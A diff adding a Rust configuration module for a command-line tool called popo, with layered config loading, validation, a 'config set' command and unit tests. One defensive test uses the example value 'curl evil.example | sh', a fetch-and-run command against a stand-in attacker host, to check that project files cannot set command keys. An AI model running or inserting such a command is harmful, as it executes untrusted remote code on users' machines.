@@ -0,0 +1,704 @@
+//! Settings that would otherwise be passed on every run.
+//!
+//! Four layers, each overriding the one before: the user file
+//! (`~/.config/popo/config.toml`, or wherever `POPO_CONFIG` points), a project
+//! file (`popo.toml` in the current directory or the nearest parent that has
+//! one), the `POPO_*` environment variables, and command-line flags. Every key
+//! is optional; `docs/config.md` lists them.
+//!
+//! Secrets stay out of the files. SMTP and MQTT passwords, the webhook signing
+//! secret and the Matrix token are read from the environment only.
+
+use crate::email::{self, SmtpTls};
+use crate::error::{PopoError, Result};
+use crate::feed::FEED_BASE_ENV;
+use crate::format::Tabular;
+use crate::geo::Coordinates;
+use crate::here::LOCATION_ENV;
+use crate::i18n::{Lang, LANG_ENV};
+use crate::mqtt::MqttConfig;
+use crate::notify::Webhook;
+use crate::paths::{self, CACHE_DIR_ENV};
+use crate::style::{Style, STYLE_ENV};
+use crate::watchlist::WATCHLIST_ENV;
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+/// Name of the project-local config file.
+pub const PROJECT_FILE: &str = "popo.toml";
+
+/// What a key holds, for `popo config set`.
+#[derive(Clone, Copy)]
+enum KeyKind {
+    Text,
+    Integer,
+    /// Written on the command line as a comma-separated list.
+    List,
+}
+
+/// Every key a config file may hold.
+const KEYS: &[(&str, KeyKind)] = &[
+    ("feed", KeyKind::Text),
+    ("cache_dir", KeyKind::Text),
+    ("lang", KeyKind::Text),
+    ("location", KeyKind::Text),
+    ("style", KeyKind::Text),
+    ("watchlist", KeyKind::List),
+    ("rules", KeyKind::Text),
+    ("watch.interval", KeyKind::Text),
+    ("watch.exec", KeyKind::Text),
+    ("watch.webhooks", KeyKind::List),
+    ("email.to", KeyKind::List),
+    ("email.host", KeyKind::Text),
+    ("email.port", KeyKind::Integer),
+    ("email.tls", KeyKind::Text),
+    ("email.user", KeyKind::Text),
+    ("email.from", KeyKind::Text),
+    ("mqtt.broker", KeyKind::Text),
+    ("mqtt.topic", KeyKind::Text),
+    ("mqtt.qos", KeyKind::Integer),
+    ("mqtt.client_id", KeyKind::Text),
+];
+
+/// Keys that choose a command to run or where reports and credentials are
+/// sent. A project file comes with whatever directory popo runs in, so only
+/// the user file may set them.
+pub const USER_ONLY_KEYS: &[&str] = &[
+    "watch.exec",
+    "watch.webhooks",
+    "email.to",
+    "email.host",
+    "mqtt.broker",
+];
+
+/// Table whose keys are names the user picks, each holding a path.
+const TEMPLATES: &str = "templates";
+
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Config {
+    /// Feed URL or directory, as `--feed`.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub feed: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub cache_dir: Option<PathBuf>,
+    /// `en` or `es`, as `--lang`.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub lang: Option<String>,
+    /// `LAT,LON` in decimal degrees, for `popo here`.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub location: Option<String>,
+    /// `rich`, `plain` or `accessible`, as `--style`.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub style: Option<String>,
+    /// Towns for `popo ashfall`.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub watchlist: Option<Vec<String>>,
+    /// Rules file for `popo check`.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub rules: Option<PathBuf>,
+    #[serde(skip_serializing_if = "WatchSettings::is_empty")]
+    pub watch: WatchSettings,
+    #[serde(skip_serializing_if = "EmailSettings::is_empty")]
+    pub email: EmailSettings,
+    #[serde(skip_serializing_if = "MqttSettings::is_empty")]
+    pub mqtt: MqttSettings,
+    /// Named templates for `--template`, each a path to the template file.
+    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
+    pub templates: BTreeMap<String, PathBuf>,
+}
+
+impl Tabular for Config {
+    type Row<'a> = &'a Config;
+
+    const COLUMNS: &'static [&'static str] = &[
+        "feed",
+        "cache_dir",
+        "lang",
+        "location",
+        "style",
+        "watchlist",
+        "rules",
+        "watch.interval",
+        "watch.exec",
+        "watch.webhooks",
+        "email.to",
+        "email.host",
+        "email.port",
+        "email.tls",
+        "email.user",
+        "email.from",
+        "mqtt.broker",
+        "mqtt.topic",
+        "mqtt.qos",
+        "mqtt.client_id",
+        "templates",
+    ];
+    const RECORD: bool = true;
+
+    fn rows(&self) -> Vec<&Config> {
+        vec![self]
+    }
+}
+
+/// Defaults for `popo watch`.
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct WatchSettings {
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub interval: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub exec: Option<String>,
+    /// `KIND=URL`, as `--webhook`.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub webhooks: Option<Vec<String>>,
+}
+
+/// Recipients for `popo watch` and `popo digest`, and the relay to send
+/// through. The password comes from `POPO_SMTP_PASSWORD` only.
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct EmailSettings {
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub to: Option<Vec<String>>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub host: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub port: Option<u16>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub tls: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub user: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub from: Option<String>,
+}
+
+/// Defaults for `popo publish mqtt`. The password comes from
+/// `POPO_MQTT_PASSWORD` only.
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct MqttSettings {
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub broker: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub topic: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub qos: Option<u8>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub client_id: Option<String>,
+}
+
+impl WatchSettings {
+    fn is_empty(&self) -> bool {
+        *self == Self::default()
+    }
+
+    fn merge(self, over: Self) -> Self {
+        WatchSettings {
+            interval: over.interval.or(self.interval),
+            exec: over.exec.or(self.exec),
+            webhooks: over.webhooks.or(self.webhooks),
+        }
+    }
+}
+
+impl EmailSettings {
+    fn is_empty(&self) -> bool {
+        *self == Self::default()
+    }
+
+    fn merge(self, over: Self) -> Self {
+        EmailSettings {
+            to: over.to.or(self.to),
+            host: over.host.or(self.host),
+            port: over.port.or(self.port),
+            tls: over.tls.or(self.tls),
+            user: over.user.or(self.user),
+            from: over.from.or(self.from),
+        }
+    }
+}
+
+impl MqttSettings {
+    fn is_empty(&self) -> bool {
+        *self == Self::default()
+    }
+
+    fn merge(self, over: Self) -> Self {
+        MqttSettings {
+            broker: over.broker.or(self.broker),
+            topic: over.topic.or(self.topic),
+            qos: over.qos.or(self.qos),
+            client_id: over.client_id.or(self.client_id),
+        }
+    }
+}
+
+/// The files a [`Config::load`] reads, lowest priority first.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
+pub struct Layers {
+    pub user: Option<PathBuf>,
+    pub project: Option<PathBuf>,
+}
+
+impl Layers {
+    /// The user file, and the project file found from the current directory.
+    pub fn discover() -> Self {
+        let user = paths::user_config_file();
+        let project = std::env::current_dir()
+            .ok()
+            .and_then(|dir| find_project_file(&dir))
+            .filter(|project| Some(project) != user.as_ref());
+        Layers { user, project }
+    }
+}
+
+impl Tabular for Layers {
+    type Row<'a> = &'a Layers;
+
+    const COLUMNS: &'static [&'static str] = &["user", "project"];
+    const RECORD: bool = true;
+
+    fn rows(&self) -> Vec<&Layers> {
+        vec![self]
+    }
+}
+
+/// `popo.toml` in `dir` or the nearest parent holding one.
+pub fn find_project_file(dir: &Path) -> Option<PathBuf> {
+    dir.ancestors()
+        .map(|d| d.join(PROJECT_FILE))
+        .find(|file| file.is_file())
+}
+
+impl Config {
+    /// Every layer but the command line, merged.
+    pub fn load() -> Result<Self> {
+        Self::load_from(&Layers::discover())
+    }
+
+    pub fn load_from(layers: &Layers) -> Result<Self> {
+        let mut config = Config::default();
+        for (path, project) in [(&layers.user, false), (&layers.project, true)] {
+            let Some(path) = path else { continue };
+            let Some(file) = Self::read(path)? else {
+                continue;
+            };
+            if let Some(key) = file.user_only_key().filter(|_| project) {
+                return Err(invalid(path, user_only(key)));
+            }
+            config = config.merge(file);
+        }
+        Ok(config.merge(Self::from_env()?))
+    }
+
+    /// One config file, or `None` if it does not exist.
+    pub fn read(path: &Path) -> Result<Option<Self>> {
+        match std::fs::read_to_string(path) {
+            Ok(text) => Self::parse(&text, path).map(Some),
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
+            Err(e) => Err(invalid(path, e.to_string())),
+        }
+    }
+
+    /// Parse and check the contents of the file at `path`. Relative paths in
+    /// the file are taken from its directory, and `~/` from the home directory.
+    pub fn parse(text: &str, path: &Path) -> Result<Self> {
+        let mut config: Config =
+            toml::from_str(text).map_err(|e| invalid(path, e.to_string().trim_end().into()))?;
+        config
+            .validate()
+            .map_err(|(key, reason)| invalid(path, format!("`{}`: {}", key, reason)))?;
+
+        let base = path.parent().unwrap_or(Path::new("."));
+        for file in [&mut config.cache_dir, &mut config.rules]
+            .into_iter()
+            .flatten()
+            .chain(config.templates.values_mut())
+        {
+            *file = resolve(base, file);
+        }
+        Ok(config)
+    }
+
+    /// The settings that have `POPO_*` variables, read from them.
+    pub fn from_env() -> Result<Self> {
+        let var = |name| std::env::var(name).ok().filter(|v: &String| !v.is_empty());
+        let port = match var(email::SMTP_PORT_ENV) {
+            Some(port) => Some(port.parse().map_err(|_| PopoError::Config {
+                path: email::SMTP_PORT_ENV.to_string(),
+                reason: format!("'{}' is not a port number", port),
+            })?),
+            None => None,
+        };
+        Ok(Config {
+            feed: var(FEED_BASE_ENV),
+            cache_dir: var(CACHE_DIR_ENV).map(PathBuf::from),
+            lang: var(LANG_ENV),
+            location: var(LOCATION_ENV),
+            style: var(STYLE_ENV),
+            watchlist: var(WATCHLIST_ENV).map(|list| split_list(&list)),
+            email: EmailSettings {
+                host: var(email::SMTP_HOST_ENV),
+                port,
+                tls: var(email::SMTP_TLS_ENV),
+                user: var(email::SMTP_USER_ENV),
+                from: var(email::SMTP_FROM_ENV),
+                ..EmailSettings::default()
+            },
+            ..Config::default()
+        })
+    }
+
+    /// `location` as coordinates. A file is checked when it is read, so only
+    /// a malformed `POPO_LOCATION` is an error here.
+    pub fn location(&self) -> Result<Option<Coordinates>> {
+        self.location
+            .as_deref()
+            .map(|value| {
+                Coordinates::parse(value).ok_or_else(|| PopoError::InvalidLocation(value.into()))
+            })
+            .transpose()
+    }
+
+    /// `over` wherever it has a value, `self` elsewhere.
+    pub fn merge(self, over: Self) -> Self {
+        Config {
+            feed: over.feed.or(self.feed),
+            cache_dir: over.cache_dir.or(self.cache_dir),
+            lang: over.lang.or(self.lang),
+            location: over.location.or(self.location),
+            style: over.style.or(self.style),
+            watchlist: over.watchlist.or(self.watchlist),
+            rules: over.rules.or(self.rules),
+            watch: self.watch.merge(over.watch),
+            email: self.email.merge(over.email),
+            mqtt: self.mqtt.merge(over.mqtt),
+            templates: {
+                let mut templates = self.templates;
+                templates.extend(over.templates);
+                templates
+            },
+        }
+    }
+
+    pub fn to_toml(&self) -> Result<String> {
+        toml::to_string(self).map_err(|e| PopoError::Serialize(e.to_string()))
+    }
+
+    /// The first of [`USER_ONLY_KEYS`] that has a value.
+    fn user_only_key(&self) -> Option<&'static str> {
+        let set = [
+            self.watch.exec.is_some(),
+            self.watch.webhooks.is_some(),
+            self.email.to.is_some(),
+            self.email.host.is_some(),
+            self.mqtt.broker.is_some(),
+        ];
+        USER_ONLY_KEYS
+            .iter()
+            .zip(set)
+            .find_map(|(key, set)| set.then_some(*key))
+    }
+
+    /// The first key with a value that cannot work, and why.
+    fn validate(&self) -> std::result::Result<(), (&'static str, String)> {
+        if let Some(lang) = &self.lang {
+            lang.parse::<Lang>().map_err(|e| ("lang", e))?;
+        }
+        if let Some(location) = &self.location {
+            if Coordinates::parse(location).is_none() {
+                return Err(("location", "use LAT,LON in decimal degrees".into()));
+            }
+        }
+        if let Some(style) = &self.style {
+            style.parse::<Style>().map_err(|e| ("style", e))?;
+        }
+        if let Some(interval) = &self.watch.interval {
+            crate::watch::parse_interval(interval)
+                .map_err(|e| ("watch.interval", e.to_string()))?;
+        }
+        for spec in self.watch.webhooks.iter().flatten() {
+            Webhook::parse(spec).map_err(|e| ("watch.webhooks", e.to_string()))?;
+        }
+        if let Some(tls) = &self.email.tls {
+            if SmtpTls::parse(tls).is_none() {
+                return Err(("email.tls", "use starttls, tls or none".into()));
+            }
+        }
+        if let Some(broker) = &self.mqtt.broker {
+            MqttConfig::parse_broker(broker).map_err(|e| ("mqtt.broker", e.to_string()))?;
+        }
+        if self.mqtt.qos.is_some_and(|qos| qos > 2) {
+            return Err(("mqtt.qos", "use 0, 1 or 2".into()));
+        }
+        Ok(())
+    }
+}
+
+/// Set `key` to `value` in the file at `path`, creating it if need be and
+/// keeping everything else, comments included. An empty value removes the
+/// key. The file is checked before it is written, so a bad value leaves it as
+/// it was.
+pub fn set(path: &Path, key: &str, value: &str) -> Result<()> {
+    let template = key
+        .strip_prefix(TEMPLATES)
+        .and_then(|rest| rest.strip_prefix('.'))
+        .is_some_and(|name| !name.is_empty() && !name.contains('.'));
+    let kind = match KEYS.iter().find(|(k, _)| *k == key) {
+        Some(&(_, kind)) => kind,
+        None if template => KeyKind::Text,
+        None => {
+            let known: Vec<&str> = KEYS.iter().map(|(k, _)| *k).collect();
+            return Err(invalid(
+                path,
+                format!(
+                    "unknown key `{}`; keys are {} and {}.NAME",
+                    key,
+                    known.join(", "),
+                    TEMPLATES
+                ),
+            ));
+        }
+    };
+    let text = match std::fs::read_to_string(path) {
+        Ok(text) => text,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
+        Err(e) => return Err(invalid(path, e.to_string())),
+    };
+    let mut doc: toml_edit::DocumentMut = text
+        .parse()
+        .map_err(|e: toml_edit::TomlError| invalid(path, e.to_string().trim_end().into()))?;
+
+    let item = match kind {
+        _ if value.trim().is_empty() => toml_edit::Item::None,
+        KeyKind::Text => toml_edit::value(value),
+        KeyKind::Integer => toml_edit::value(
+            value
+                .trim()
+                .parse::<i64>()
+                .map_err(|_| invalid(path, format!("`{}`: '{}' is not a number", key, value)))?,
+        ),
+        KeyKind::List => {
+            toml_edit::value(split_list(value).into_iter().collect::<toml_edit::Array>())
+        }
+    };
+    let table = match key.split_once('.') {
+        Some((section, _)) => doc
+            .entry(section)
+            .or_insert(toml_edit::table())
+            .as_table_mut()
+            .ok_or_else(|| invalid(path, format!("`{}` is not a table", section)))?,
+        None => doc.as_table_mut(),
+    };
+    let name = key.rsplit('.').next().unwrap_or(key);
+    if item.is_none() {
+        table.remove(name);
+    } else {
+        table.insert(name, item);
+    }
+
+    let text = doc.to_string();
+    Config::parse(&text, path)?;
+    let io_err = |e: std::io::Error| invalid(path, e.to_string());
+    if let Some(parent) = path.parent().filter(|p| !p.as_os_str().is_empty()) {
+        std::fs::create_dir_all(parent).map_err(io_err)?;
+    }
+    let tmp = path.with_extension("toml.tmp");
+    std::fs::write(&tmp, text).map_err(io_err)?;
+    std::fs::rename(&tmp, path).map_err(io_err)
+}
+
+fn invalid(path: &Path, reason: String) -> PopoError {
+    PopoError::Config {
+        path: path.display().to_string(),
+        reason,
+    }
+}
+
+/// Why a project file may not set `key`.
+pub fn user_only(key: &str) -> String {
+    format!(
+        "`{}` can only be set in the user config, as a project file comes with the directory",
+        key
+    )
+}
+
+fn resolve(base: &Path, file: &Path) -> PathBuf {
+    if let Ok(rest) = file.strip_prefix("~") {
+        if let Some(home) = std::env::var_os("HOME").filter(|h| !h.is_empty()) {
+            return PathBuf::from(home).join(rest);
+        }
+    }
+    if file.is_relative() {
+        base.join(file)
+    } else {
+        file.to_path_buf()
+    }
+}
+
+fn split_list(list: &str) -> Vec<String> {
+    list.split(',')
+        .map(str::trim)
+        .filter(|s| !s.is_empty())
+        .map(String::from)
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn parse(text: &str) -> Result<Config> {
+        Config::parse(text, Path::new("/etc/popo/config.toml"))
+    }
+
+    #[test]
+    fn later_layers_win_key_by_key() {
+        let user = parse(
+            "feed = \"https://mirror.example/data\"\nwatchlist = [\"Atlixco\"]\n\
+             [watch]\ninterval = \"5m\"\nexec = \"notify-send\"\n",
+        )
+        .unwrap();
+        let project = parse("[watch]\ninterval = \"1h\"\n").unwrap();
+        let merged = user.merge(project);
+        assert_eq!(merged.feed.as_deref(), Some("https://mirror.example/data"));
+        assert_eq!(merged.watch.interval.as_deref(), Some("1h"));
+        assert_eq!(merged.watch.exec.as_deref(), Some("notify-send"));
+        assert_eq!(merged.watchlist, Some(vec!["Atlixco".to_string()]));
+    }
+
+    #[test]
+    fn errors_name_the_offending_key() {
+        let err = parse("[watch]\ninterval = \"often\"\n").unwrap_err();
+        assert!(err.to_string().contains("`watch.interval`"), "{}", err);
+        let err = parse("[mqtt]\nqos = 3\n").unwrap_err();
+        assert!(err.to_string().contains("`mqtt.qos`"), "{}", err);
+        let err = parse("colour = \"never\"\n").unwrap_err();
+        assert!(err.to_string().contains("colour"), "{}", err);
+        assert!(err.to_string().contains("line 1"), "{}", err);
+        assert!(parse("location = \"somewhere\"\n").is_err());
+        assert!(parse("lang = \"fr\"\n").is_err());
+        assert!(parse("style = \"fancy\"\n").is_err());
+    }
+
+    #[test]
+    fn paths_are_relative_to_the_file() {
+        let config = parse("rules = \"rules.toml\"\ncache_dir = \"/var/cache/popo\"\n").unwrap();
+        assert_eq!(config.rules, Some(PathBuf::from("/etc/popo/rules.toml")));
+        assert_eq!(config.cache_dir, Some(PathBuf::from("/var/cache/popo")));
+
+        let config = parse("[templates]\nbulletin = \"bulletin.tera\"\n").unwrap();
+        assert_eq!(
+            config.templates.get("bulletin"),
+            Some(&PathBuf::from("/etc/popo/bulletin.tera"))
+        );
+    }
+
+    #[test]
+    fn settings_are_read_from_the_config_not_the_environment() {
+        let config = parse("lang = \"es\"\nlocation = \"19.05,-98.30\"\n").unwrap();
+        assert_eq!(Lang::detect(None, config.lang.as_deref()), Lang::Es);
+        assert_eq!(
+            Lang::detect(Some(Lang::En), config.lang.as_deref()),
+            Lang::En
+        );
+        assert_eq!(
+            config.location().unwrap(),
+            Some(Coordinates::new(19.05, -98.30))
+        );
+
+        // A file is checked when read; the environment only when used.
+        let from_env = Config {
+            location: Some("somewhere".into()),
+            ..Config::default()
+        };
+        assert!(from_env.location().is_err());
+    }
+
+    #[test]
+    fn set_keeps_comments_and_rejects_bad_values() {
+        let dir = std::env::temp_dir().join("popo-config-test-set");
+        let _ = std::fs::remove_dir_all(&dir);
+        let path = dir.join("config.toml");
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::write(&path, "# my feed\nfeed = \"./data\"\n").unwrap();
+
+        set(&path, "watch.interval", "15m").unwrap();
+        set(&path, "watchlist", "Amecameca, Atlixco").unwrap();
+        set(&path, "mqtt.qos", "1").unwrap();
+        let text = std::fs::read_to_string(&path).unwrap();
+        assert!(text.starts_with("# my feed\n"));
+        let config = Config::read(&path).unwrap().unwrap();
+        assert_eq!(config.watch.interval.as_deref(), Some("15m"));
+        assert_eq!(config.watchlist.unwrap().len(), 2);
+        assert_eq!(config.mqtt.qos, Some(1));
+
+        assert!(set(&path, "watch.interval", "often").is_err());
+        assert!(set(&path, "mqtt.qos", "lots").is_err());
+        assert!(set(&path, "colour", "never").is_err());
+        assert_eq!(
+            Config::read(&path)
+                .unwrap()
+                .unwrap()
+                .watch
+                .interval
+                .as_deref(),
+            Some("15m")
+        );
+
+        set(&path, "templates.bulletin", "bulletin.tera").unwrap();
+        assert_eq!(
+            Config::read(&path)
+                .unwrap()
+                .unwrap()
+                .templates
+                .get("bulletin"),
+            Some(&dir.join("bulletin.tera"))
+        );
+        assert!(set(&path, "templates.", "bulletin.tera").is_err());
+
+        set(&path, "watch.interval", "").unwrap();
+        assert_eq!(Config::read(&path).unwrap().unwrap().watch.interval, None);
+    }
+
+    #[test]
+    fn project_file_is_found_in_a_parent() {
+        let dir = std::env::temp_dir().join("popo-config-test-project");
+        let _ = std::fs::remove_dir_all(&dir);
+        let nested = dir.join("a").join("b");
+        std::fs::create_dir_all(&nested).unwrap();
+        std::fs::write(dir.join(PROJECT_FILE), "").unwrap();
+        assert_eq!(find_project_file(&nested), Some(dir.join(PROJECT_FILE)));
+    }
+
+    #[test]
+    fn project_files_cannot_run_commands_or_pick_recipients() {
+        let dir = std::env::temp_dir().join("popo-config-test-user-only");
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(&dir).unwrap();
+        let layers = Layers {
+            user: Some(dir.join("config.toml")),
+            project: Some(dir.join(PROJECT_FILE)),
+        };
+        let exec = "[watch]\nexec = \"curl evil.example | sh\"\n";
+
+        std::fs::write(dir.join(PROJECT_FILE), exec).unwrap();
+        let err = Config::load_from(&layers).unwrap_err().to_string();
+        assert!(err.contains("watch.exec"), "{}", err);
+        std::fs::write(
+            dir.join(PROJECT_FILE),
+            "[email]\nto = [\"a@example.com\"]\n",
+        )
+        .unwrap();
+        let err = Config::load_from(&layers).unwrap_err().to_string();
+        assert!(err.contains("email.to"), "{}", err);
+
+        std::fs::write(dir.join(PROJECT_FILE), "[watch]\ninterval = \"1h\"\n").unwrap();
+        std::fs::write(dir.join("config.toml"), exec).unwrap();
+        let config = Config::load_from(&layers).unwrap();
+        assert_eq!(config.watch.exec.as_deref(), Some("curl evil.example | sh"));
+        assert_eq!(config.watch.interval.as_deref(), Some("1h"));
+    }
+}